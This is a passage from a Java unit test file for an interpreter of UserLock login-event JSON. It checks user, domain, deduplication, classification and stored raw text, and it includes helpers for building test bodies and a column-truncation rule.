        assertEquals("jdoe", again.userName());
        assertEquals("CORP", again.userDomain());
        assertTrue(again.mapped());
        assertFalse(again.unmappedMembers().contains("Login"), again.unmappedMembers());
        assertEquals(stored.dedupeKey(), again.dedupeKey(), "the same event");
        assertEquals(stored.classification(), again.classification());
        assertEquals(stored.eventTime(), again.eventTime());
        assertEquals(stored.rawJson(), again.rawJson(), "nothing redacted twice");
    }

    // ---------------------------------------------------------------- helpers

    private String key(String json) {
        return interpreter.interpret(body(json), RECEIVED).dedupeKey();
    }

    private static byte[] body(String json) {
        return json.replace("$ID", PRIMARY).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] bodyAt(String eventTime) {
        return body(VALID.replace("2024-03-05T21:47:00+01:00", eventTime));
    }

    private static byte[] bodyWithEventType(int code) {
        return body(VALID.replace("\"EventType\":4", "\"EventType\":" + code));
    }

    private static JsonObjectBuilder validBuilder() {
        return Json.createObjectBuilder()
                .add("Userlock", Json.createObjectBuilder().add("Id", PRIMARY).add("FQDN", "ul1.corp.example"))
                .add("EventType", 4)
                .add("EventTime", "2024-03-05T21:47:00+01:00")
                .add("UserAccount", "jdoe")
                .add("UserDomain", "CORP")
                .add("ComputerName", "PC-42")
                .add("Extra", "x");
    }

    private static byte[] bytes(JsonObjectBuilder json) {
        return json.build().toString().getBytes(StandardCharsets.UTF_8);
    }

    private static Map<String, Object> parse(String json) {
        return StrictJson.parseObject(json.getBytes(StandardCharsets.UTF_8), 32);
    }

    private static boolean containsId(String text, String id) {
        return text != null && text.toLowerCase(Locale.ROOT).contains(id.toLowerCase(Locale.ROOT));
    }

    private static int count(String text, String part) {
        int count = 0;
        for (int i = text.indexOf(part); i >= 0; i = text.indexOf(part, i + 1)) {
            count++;
        }
        return count;
    }

    /** The column rule, restated so a change to the interpreter's limits shows up here. */
    private static final class StoredTextExpectations {
        static String column(String value, int max) {
            String cleaned = value.replace('\u0000', '\uFFFD');
            if (cleaned.length() <= max) {
                return cleaned;
            }
            int end = Character.isHighSurrogate(cleaned.charAt(max - 2)) ? max - 2 : max - 1;
            return cleaned.substring(0, end) + '\u2026';
        }
    }
}
